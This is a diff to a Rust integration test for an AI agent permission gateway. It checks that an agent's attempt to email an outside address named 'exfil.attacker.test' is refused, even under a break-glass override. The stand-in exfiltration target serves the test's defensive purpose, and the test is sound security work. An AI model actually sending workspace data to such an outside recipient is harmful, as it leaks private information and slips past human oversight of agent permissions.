@@ -140,7 +140,9 @@ async fn reviewers_see_tasks_traces_and_queues_in_a_real_browser() {
     let read = request(&triage, &task, "workspace__read_inbox", json!({})).await.unwrap();
     call_with_token(&triage, "workspace__read_inbox", json!({}), &read).await.unwrap();
     raw_call(&triage, "jit_next_phase", json!({"task": task, "phase": "reply"})).await.unwrap();
-    request(&triage, &task, "workspace__send_message", json!({"to": "audit@exfil.attacker.test", "subject": "s", "body": "b"})).await.unwrap_err();
+    // Under break-glass, where third-party values into a sink are forbidden.
+    let body = json!({"task": task, "tool": "workspace__send_message", "arguments": {"to": "audit@exfil.attacker.test", "subject": "s", "body": "b"}, "purpose": "test", "break_glass": {"justification": "INC-1 outage"}});
+    grant(&triage, body).await.unwrap_err();
     // And a pending approval.
     let janitor = gw.connect(&dep.mint("janitor")).await;
     let t2 = begin(&janitor, json!([{"name": "clean", "tools": ["workspace__delete_note"]}])).await.unwrap();
